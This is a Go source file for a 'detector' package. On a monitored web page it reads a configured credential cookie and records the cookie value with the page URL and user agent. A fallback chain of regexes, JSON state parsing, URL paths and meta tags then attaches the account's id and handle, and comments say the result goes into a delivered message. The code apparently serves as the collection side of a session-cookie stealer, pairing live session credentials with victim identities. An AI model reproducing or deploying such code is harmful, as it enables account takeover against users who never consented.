package detector

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"regexp"
	"strings"

	"github.com/entrhq/relay/pkg/artifact"
	"github.com/entrhq/relay/pkg/page"
)

// The identity fallback chain. Each layer fills only fields the previous
// layers left empty; extraction stops as soon as both subject fields are
// known. A chain that fills nothing is still a success: identity fields
// are best-effort and render as "Not found" in the delivered message.
//
//  1. Embedded JSON state objects in inline scripts.
//  2. Regex scan of inline script bodies.
//  3. URL path heuristics (/u/<handle>, /@<handle>, ...).
//  4. Page metadata (title, og: properties).

var (
	// stateRe finds the JSON payload of embedded state assignments like
	// window.__INITIAL_STATE__ = {...};
	stateRe = regexp.MustCompile(`__(?:INITIAL_STATE|STATE|DATA|APP_STATE)__\s*=\s*(\{.*\})`)

	// subjectIDRe matches quoted or bare numeric account ids in scripts.
	subjectIDRe = regexp.MustCompile(`"(?:user_?id|account_?id|viewer_?id)"\s*:\s*"?(\d+)"?`)

	// handleRe matches account handles in scripts.
	handleRe = regexp.MustCompile(`"(?:username|screen_name|handle|login)"\s*:\s*"([A-Za-z0-9_.\-]+)"`)

	// pathHandleRe matches profile-shaped URL paths.
	pathHandleRe = regexp.MustCompile(`^/(?:u|user|users|profile|@)/?([A-Za-z0-9_.\-]+)`)

	// titleHandleRe pulls an @handle out of a page title.
	titleHandleRe = regexp.MustCompile(`@([A-Za-z0-9_.\-]+)`)
)

// stateKeys are the JSON keys each subject field is searched under when
// walking an embedded state object.
var (
	stateIDKeys     = []string{"user_id", "userId", "account_id", "accountId", "viewer_id", "id"}
	stateHandleKeys = []string{"username", "screen_name", "screenName", "handle", "login"}
)

// Extract performs one full extraction against the monitored page: the
// credential from the configured cookie plus best-effort identity
// fields through the fallback chain. ExtractedAt is set exactly once,
// here; callers must not reuse a Record across extractions.
func (d *Detector) Extract(ctx context.Context) (*artifact.Record, error) {
	settings := d.cfg.Current()

	credential, err := d.page.Cookie(ctx, settings.CredentialCookie)
	if err != nil {
		return nil, fmt.Errorf("detector: read credential cookie: %w", err)
	}

	rec := &artifact.Record{
		CredentialID: credential,
		ExtractedAt:  d.clock.Now(),
		SourceURL:    d.page.URL(),
		ClientMeta:   d.page.UserAgent(),
	}
	if err := artifact.Validate(rec, settings.MinCredentialLength); err != nil {
		return nil, err
	}

	d.fillSubject(ctx, rec)
	return rec, nil
}

// fillSubject runs the identity fallback chain. Layer failures are
// logged and skipped; identity is never a reason to drop a detection.
func (d *Detector) fillSubject(ctx context.Context, rec *artifact.Record) {
	scripts, err := d.page.ScriptBodies(ctx)
	if err != nil {
		d.logger.Debugf("script bodies unavailable: %v", err)
	}

	subjectFromState(scripts, rec)
	if subjectComplete(rec) {
		return
	}
	subjectFromScripts(scripts, rec)
	if subjectComplete(rec) {
		return
	}
	subjectFromURL(rec)
	if subjectComplete(rec) {
		return
	}

	html, err := d.page.Content(ctx)
	if err != nil {
		d.logger.Debugf("page content unavailable: %v", err)
		return
	}
	subjectFromMeta(page.ParseMeta(html), rec)
}

func subjectComplete(rec *artifact.Record) bool {
	return rec.SubjectID != "" && rec.SubjectHandle != ""
}

// subjectFromState parses embedded JSON state assignments and walks the
// object tree for subject keys.
func subjectFromState(scripts []string, rec *artifact.Record) {
	for _, script := range scripts {
		match := stateRe.FindStringSubmatch(script)
		if match == nil {
			continue
		}
		payload := trimToBalancedObject(match[1])
		var state interface{}
		if err := json.Unmarshal([]byte(payload), &state); err != nil {
			continue
		}
		if rec.SubjectID == "" {
			rec.SubjectID = findStateString(state, stateIDKeys)
		}
		if rec.SubjectHandle == "" {
			rec.SubjectHandle = findStateString(state, stateHandleKeys)
		}
		if subjectComplete(rec) {
			return
		}
	}
}

// trimToBalancedObject cuts a regex-captured object literal down to its
// balanced braces, discarding trailing statement text. Brace characters
// inside string literals are skipped.
func trimToBalancedObject(s string) string {
	depth := 0
	inString := false
	escaped := false
	for i := 0; i < len(s); i++ {
		c := s[i]
		if inString {
			switch {
			case escaped:
				escaped = false
			case c == '\\':
				escaped = true
			case c == '"':
				inString = false
			}
			continue
		}
		switch c {
		case '"':
			inString = true
		case '{':
			depth++
		case '}':
			depth--
			if depth == 0 {
				return s[:i+1]
			}
		}
	}
	return s
}

// findStateString searches the decoded state tree depth-first for the
// first string or number value under any of the given keys.
func findStateString(node interface{}, keys []string) string {
	switch v := node.(type) {
	case map[string]interface{}:
		for _, key := range keys {
			if raw, ok := v[key]; ok {
				if s := scalarString(raw); s != "" {
					return s
				}
			}
		}
		for _, child := range v {
			if s := findStateString(child, keys); s != "" {
				return s
			}
		}
	case []interface{}:
		for _, child := range v {
			if s := findStateString(child, keys); s != "" {
				return s
			}
		}
	}
	return ""
}

func scalarString(v interface{}) string {
	switch s := v.(type) {
	case string:
		return s
	case json.Number:
		return s.String()
	case float64:
		// Account ids decode as float64 under encoding/json defaults.
		return fmt.Sprintf("%.0f", s)
	}
	return ""
}

// subjectFromScripts scans raw script text for subject fields.
func subjectFromScripts(scripts []string, rec *artifact.Record) {
	for _, script := range scripts {
		if rec.SubjectID == "" {
			if m := subjectIDRe.FindStringSubmatch(script); m != nil {
				rec.SubjectID = m[1]
			}
		}
		if rec.SubjectHandle == "" {
			if m := handleRe.FindStringSubmatch(script); m != nil {
				rec.SubjectHandle = m[1]
			}
		}
		if subjectComplete(rec) {
			return
		}
	}
}

// subjectFromURL reads a profile-shaped path segment as the handle.
func subjectFromURL(rec *artifact.Record) {
	if rec.SubjectHandle != "" {
		return
	}
	parsed, err := url.Parse(rec.SourceURL)
	if err != nil {
		return
	}
	path := parsed.Path
	if strings.HasPrefix(path, "/@") {
		rec.SubjectHandle = strings.SplitN(strings.TrimPrefix(path, "/@"), "/", 2)[0]
		return
	}
	if m := pathHandleRe.FindStringSubmatch(path); m != nil {
		rec.SubjectHandle = m[1]
	}
}

// subjectFromMeta reads the metadata layer: explicit profile properties
// first, then an @handle in the title.
func subjectFromMeta(meta *page.Meta, rec *artifact.Record) {
	if rec.SubjectHandle == "" {
		for _, key := range []string{"profile:username", "og:title", "author"} {
			value, ok := meta.Properties[key]
			if !ok {
				continue
			}
			if m := titleHandleRe.FindStringSubmatch(value); m != nil {
				rec.SubjectHandle = m[1]
				break
			}
			if key == "profile:username" {
				rec.SubjectHandle = value
				break
			}
		}
	}
	if rec.SubjectHandle == "" && meta.Title != "" {
		if m := titleHandleRe.FindStringSubmatch(meta.Title); m != nil {
			rec.SubjectHandle = m[1]
		}
	}
}
